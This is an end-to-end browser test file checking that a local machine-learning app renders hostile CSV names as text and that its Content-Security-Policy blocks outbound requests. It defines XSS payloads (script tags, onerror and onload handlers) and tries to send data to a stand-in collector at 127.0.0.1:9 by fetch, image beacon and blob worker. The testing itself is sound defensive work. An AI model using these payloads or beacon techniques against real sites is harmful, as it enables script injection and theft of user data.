// End-to-end: the page keeps the data on the device, and hostile text stays text.
// The app is served with its Content-Security-Policy (the <meta> that scripts/csp writes, and
// the same policy as a header on every file, as `hearth app` sends it). A CSV whose file name,
// column names, categories and class names are HTML and script goes through Data, Prepare,
// Train, Export and Use like a person would take it; nothing it carries may run, every name is
// shown as written, downloads get safe names. Every request the page and its workers make is
// recorded: none goes anywhere but the app's own origin, and tries to send data elsewhere
// (fetch, an image beacon, a worker from a blob) are refused by the policy.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { launch, pagePolicy, recordErrors, serve, trainOnCpu } from './harness.mjs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));
const dist = process.env.HEARTH_DIST ?? join(here, '..', '..', 'dist');
const LONG = 60_000;

const FILE_NAME = '<img src=x onerror=window.__pwned=4>.csv';
const COLUMNS = ['<script>window.__pwned=1</script>', '<img src=x onerror="window.__pwned=2">', 'size', 'label'];
const CATEGORIES = ['<b>bold</b>', '"><svg onload=window.__pwned=3>', '{{x}}&amp;'];
const CLASSES = ['<i>yes</i>', 'no"><script>window.__pwned=5</script>'];

/** The hostile table: categories that matter for the class, a number, quoted as RFC 4180 says. */
function hostileCsv() {
  const quote = (text) => `"${text.replaceAll('"', '""')}"`;
  const lines = [COLUMNS.map(quote).join(',')];
  for (let i = 0; i < 120; i += 1) {
    const category = CATEGORIES[i % 3];
    const other = CATEGORIES[(i * 7) % 3];
    const size = ((i * 37) % 100) / 10;
    const cls = CLASSES[(i % 3 === 0) !== (size > 5) ? 0 : 1];
    lines.push([category, other, size.toFixed(1), cls].map(quote).join(','));
  }
  return `${lines.join('\n')}\n`;
}

let server, browser, context, page, policy;
const pageErrors = [];
const requests = [];

before(async () => {
  policy = await pagePolicy(dist);
  server = await serve(dist);
  browser = await launch();
  context = await browser.newContext({ acceptDownloads: true });
  context.on('request', (request) => requests.push(request.url()));
  page = await context.newPage();
  recordErrors(page, pageErrors);
  await page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.__violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI });
    });
  });
  await page.goto(server.url);
  await page.waitForSelector('#profile[data-source]:not(.stale)', { timeout: LONG });
});

after(async () => {
  await browser?.close();
  server?.close();
});

/** Nothing the hostile table carries ran or became an element. */
async function assertNothingRan(where) {
  const found = await page.evaluate(() => ({
    pwned: window.__pwned ?? null,
    handlers: document.querySelectorAll('[onerror], [onload], img[src="x"], svg[onload]').length,
    inlineScripts: [...document.scripts].filter((s) => /__pwned/.test(s.textContent)).length,
    bold: document.querySelectorAll('#app b, #app i').length,
  }));
  assert.deepEqual(found, { pwned: null, handlers: 0, inlineScripts: 0, bold: 0 }, where);
}

test('the page carries a policy that keeps scripts, workers and connections to its own origin', () => {
  assert.ok(policy, 'dist/index.html has a Content-Security-Policy <meta>');
  for (const directive of ["default-src 'self'", "connect-src 'self'", "worker-src 'self'", "object-src 'none'"]) {
    assert.ok(policy.includes(directive), `${directive} in ${policy}`);
  }
  const scripts = policy.split(';').find((d) => d.trim().startsWith('script-src'));
  assert.ok(!scripts.includes("'unsafe-inline'") && !scripts.includes("'unsafe-eval'"), scripts);
});

test('hostile file, column, category and class names are shown as text everywhere', async () => {
  await page.setInputFiles('#file-input', { name: FILE_NAME, mimeType: 'text/csv', buffer: Buffer.from(hostileCsv()) });
  await page.waitForSelector('#profile:not(.stale) tr[data-column="size"]', { timeout: LONG });
  const source = await page.$eval('#profile', (e) => e.dataset.source);
  assert.equal(source, FILE_NAME);
  const columns = await page.$$eval('#profile tr[data-column]', (rows) => rows.map((r) => r.dataset.column));
  assert.deepEqual(columns, COLUMNS);
  const text = await page.$eval('#app', (e) => e.textContent);
  for (const name of [FILE_NAME, ...COLUMNS]) assert.ok(text.includes(name), `${name} is shown as written`);
  // The histograms and top-category charts (SVG from plotters) carry the names as text too.
  const svgText = await page.$$eval('#app svg text', (nodes) => nodes.map((n) => n.textContent).join('\n'));
  assert.ok(CATEGORIES.some((c) => svgText.includes(c)) || text.includes(CATEGORIES[0]), 'a category is drawn');
  await assertNothingRan('after the profile');

  await page.selectOption('#target-select', 'label');
  await page.click('#step-prepare');
  await page.waitForSelector('#prep:not(.stale)', { timeout: LONG });
  await assertNothingRan('after Prepare');

  await trainOnCpu(page, 5, LONG);
  const trainText = await page.$eval('#app', (e) => e.textContent);
  assert.ok(CLASSES.some((c) => trainText.includes(c)), 'the class names are shown as written');
  await assertNothingRan('after Train');
  const [model] = await Promise.all([page.waitForEvent('download'), page.click('#download-model')]);
  assert.equal(model.suggestedFilename(), '_img src_x onerror_window.__pwned_4_.hearth');

  await page.click('#step-export');
  await page.click('#export-button');
  await page.waitForSelector('#exported', { timeout: LONG });
  const [onnx] = await Promise.all([page.waitForEvent('download'), page.click('#download-onnx')]);
  assert.match(onnx.suggestedFilename(), /^_img src_x onerror_window\.__pwned_4_.*\.onnx$/);
  await assertNothingRan('after Export');

  await page.click('#step-use');
  await page.waitForSelector('#batch-input:not([disabled])', { timeout: LONG });
  await page.setInputFiles('#batch-input', { name: FILE_NAME, mimeType: 'text/csv', buffer: Buffer.from(hostileCsv()) });
  await page.waitForSelector('#batch-result', { timeout: LONG });
  const [predictions] = await Promise.all([page.waitForEvent('download'), page.click('#download-predictions')]);
  assert.equal(predictions.suggestedFilename(), '_img src_x onerror_window.__pwned_4_-predictions.csv');
  await assertNothingRan('after Use');
});

test('sending data elsewhere is refused: fetch, an image beacon, a worker from a blob', async () => {
  const elsewhere = 'http://127.0.0.1:9/collect';
  const outcome = await page.evaluate(async (url) => {
    const fetched = await fetch(url, { method: 'POST', body: 'rows' }).then(() => 'sent', () => 'refused');
    // A refused worker fires "error"; one that ran would post its message.
    const worker = await new Promise((resolve) => {
      try {
        const w = new Worker(URL.createObjectURL(new Blob(['postMessage("ran")'], { type: 'text/javascript' })));
        w.onmessage = () => resolve('started');
        w.onerror = () => resolve('refused');
        setTimeout(() => resolve('silent'), 3000);
      } catch {
        resolve('refused');
      }
    });
    const image = new Image();
    image.src = `${url}.png?rows`;
    await new Promise((resolve) => { image.onerror = resolve; image.onload = resolve; setTimeout(resolve, 2000); });
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { fetched, worker, violations: window.__violations };
  }, elsewhere);
  assert.equal(outcome.fetched, 'refused');
  assert.equal(outcome.worker, 'refused');
  const directives = new Set(outcome.violations.map((v) => v.directive));
  assert.ok(directives.has('connect-src'), JSON.stringify(outcome.violations));
  assert.ok(directives.has('img-src'), JSON.stringify(outcome.violations));
  assert.ok(directives.has('worker-src'), JSON.stringify(outcome.violations));
  // The refusals are the only ones: the app itself never tripped the policy.
  const own = outcome.violations.filter((v) => !v.blocked.startsWith('http://127.0.0.1:9/') && v.directive !== 'worker-src');
  assert.deepEqual(own, []);
});

test('every request of the page and its workers went to the app\'s own origin', () => {
  const origin = new URL(server.url).origin;
  // (The previous test's own attempts, refused before they left, are not the app's.)
  const elsewhere = requests.filter((url) => !url.startsWith(origin) && !url.startsWith('blob:')
    && !url.startsWith('data:') && !url.startsWith('http://127.0.0.1:9/'));
  assert.deepEqual(elsewhere, []);
  // The recorder sees the workers' own fetches (their wasm), so it would see them send.
  assert.ok(requests.some((url) => /hearth-data-worker-[0-9a-f]+_bg\.wasm$/.test(url)), requests.join('\n'));
  assert.ok(requests.some((url) => /hearth-worker-[0-9a-f]+_bg\.wasm$/.test(url)), requests.join('\n'));
});

test('nothing panicked or threw in the page or the workers', () => {
  // The refusals above are in the console as errors; they are the test's, not the app's.
  const tests = (e) => /127\.0\.0\.1:9\/|Creating a worker from 'blob:/.test(e);
  assert.deepEqual(pageErrors.filter((e) => !tests(e)), []);
});
